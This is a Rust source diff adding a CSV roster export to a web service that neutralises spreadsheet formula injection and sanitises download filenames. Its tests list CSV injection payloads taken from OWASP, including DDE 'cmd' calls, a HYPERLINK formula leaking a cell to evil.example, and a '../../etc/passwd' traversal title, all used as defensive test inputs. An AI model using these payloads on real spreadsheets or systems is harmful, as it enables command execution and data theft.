@@ -1,0 +1,154 @@
+//! A roster as CSV (RFC 4180), for spreadsheets.
+//!
+//! It begins with a byte order mark: without one, Excel takes UTF-8 for something else and breaks every name that is not
+//! plain ASCII; everything else skips it. Spreadsheets calculate what a cell holds if it looks like a formula, so that the
+//! name of a participant could run commands on the organizer's machine. Such a cell gets an apostrophe before it, which
+//! makes it text; and every cell is in quotes, so that none begins in the middle of another one, wherever a
+//! spreadsheet takes other characters than the comma for separators.
+
+use axum::{
+    body::{Body, Bytes},
+    http::{HeaderValue, header},
+    response::{IntoResponse, Response},
+};
+use csv::{QuoteStyle, Terminator, WriterBuilder};
+use domain::RosterEntry;
+use futures::{Stream, StreamExt, TryStreamExt, stream};
+use service::registration::RosterExport;
+
+const BYTE_ORDER_MARK: &str = "\u{feff}";
+const HEADER: [&str; 5] = ["Name", "Email", "Status", "Registered at", "Registration ID"];
+/// What a formula may begin with, also in the wide forms of East Asia. From OWASP's page on CSV injection.
+const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+/// Longest part of a file's name that is taken from a title, in characters.
+const MAX_NAME: usize = 60;
+
+/// Sends a roster as a file, part by part as the client takes it.
+pub(super) fn respond(export: RosterExport) -> Response {
+    let headers = [
+        (header::CONTENT_TYPE, HeaderValue::from_static("text/csv; charset=utf-8")),
+        (header::CONTENT_DISPOSITION, disposition(export.title())),
+        // Names and addresses: nobody else's business, and no cache's.
+        (header::CACHE_CONTROL, HeaderValue::from_static("private, no-store")),
+    ];
+    (headers, Body::from_stream(parts(export))).into_response()
+}
+
+/// The text of the file, part by part. An error breaks the download off, so that nobody takes a half for the whole.
+fn parts(export: RosterExport) -> impl Stream<Item = Result<Bytes, service::Error>> {
+    let head = BYTE_ORDER_MARK.to_owned() + &text([HEADER.map(str::to_owned)]);
+    let rest = stream::try_unfold(export, async |mut export: RosterExport| {
+        let part = export.next_part().await.inspect_err(|error| {
+            let error = error as &dyn std::error::Error;
+            tracing::error!(error, "a roster broke off");
+        })?;
+        Ok((!part.is_empty()).then(|| (text(part.iter().map(cells)), export)))
+    });
+    stream::once(async { Ok(head) }).chain(rest).map_ok(Bytes::from)
+}
+
+fn cells(entry: &RosterEntry) -> [String; HEADER.len()] {
+    let RosterEntry { registration, user } = entry;
+    [
+        user.name.clone(),
+        user.email.clone(),
+        registration.status.to_string(),
+        registration.registered_at.to_string(),
+        registration.id.to_string(),
+    ]
+}
+
+fn text(rows: impl IntoIterator<Item = [String; HEADER.len()]>) -> String {
+    let mut writer = WriterBuilder::new()
+        .quote_style(QuoteStyle::Always)
+        .terminator(Terminator::CRLF)
+        .from_writer(Vec::new());
+    for row in rows {
+        writer.write_record(row.map(inert)).expect("writing to memory cannot fail");
+    }
+    let bytes = writer.into_inner().expect("flushing to memory cannot fail");
+    String::from_utf8(bytes).expect("text between quotes is text")
+}
+
+/// A cell that no spreadsheet takes for a formula.
+fn inert(cell: String) -> String {
+    if cell.trim_start_matches(' ').starts_with(FORMULA) { format!("'{cell}") } else { cell }
+}
+
+/// A name that every system takes, and that no title can break out of.
+fn disposition(title: &str) -> HeaderValue {
+    let mut name = String::new();
+    for c in title.to_lowercase().chars().take(MAX_NAME) {
+        if c.is_ascii_alphanumeric() {
+            name.push(c);
+        } else if !name.is_empty() && !name.ends_with('-') {
+            name.push('-');
+        }
+    }
+    let name = name.trim_end_matches('-');
+    let name = if name.is_empty() { "competition" } else { name };
+    let value = format!("attachment; filename=\"{name}-registrations.csv\"");
+    HeaderValue::try_from(value).expect("letters, digits and hyphens")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// What OWASP's page on CSV injection lists, and what has been seen in the wild.
+    const FORMULAS: [&str; 14] = [
+        "=1+1",
+        "=1+1\";=1+1",
+        "=1+1'\" ;,=1+1",
+        "=cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝1+1",
+        "  =1+1",
+        "＠SUM(1+1)",
+    ];
+
+    #[test]
+    fn no_cell_is_a_formula() {
+        for formula in FORMULAS {
+            let row = HEADER.map(|_| formula.to_owned());
+            let text = text([row]);
+            let mut reader =
+                csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
+            let record = reader.records().next().unwrap().unwrap();
+            assert_eq!(record.len(), HEADER.len(), "{formula} breaks out of its cell");
+            for cell in &record {
+                assert_eq!(cell, format!("'{formula}"));
+            }
+        }
+    }
+
+    #[test]
+    fn cells_are_quoted_and_keep_what_they_hold() {
+        let row = ["Ada \"Countess\" Lovelace", "a,b", "x;=1+1", "Zoë", "2026-11-29"];
+        let text = text([row.map(str::to_owned)]);
+        let expected =
+            "\"Ada \"\"Countess\"\" Lovelace\",\"a,b\",\"x;=1+1\",\"Zoë\",\"2026-11-29\"\r\n";
+        assert_eq!(text, expected);
+    }
+
+    #[test]
+    fn a_file_is_named_after_the_title_in_letters_that_every_system_takes() {
+        for (title, name) in [
+            ("Code Sprint 2025", "code-sprint-2025-registrations.csv"),
+            ("  Zürich: \"Öffentlich\"\r\nX: y ", "z-rich-ffentlich-x-y-registrations.csv"),
+            ("../../etc/passwd", "etc-passwd-registrations.csv"),
+            ("大会", "competition-registrations.csv"),
+        ] {
+            let expected = format!("attachment; filename=\"{name}\"");
+            assert_eq!(disposition(title), expected, "{title}");
+        }
+        let long = disposition(&"x".repeat(200));
+        assert!(long.len() < 110, "{long:?}");
+    }
+}
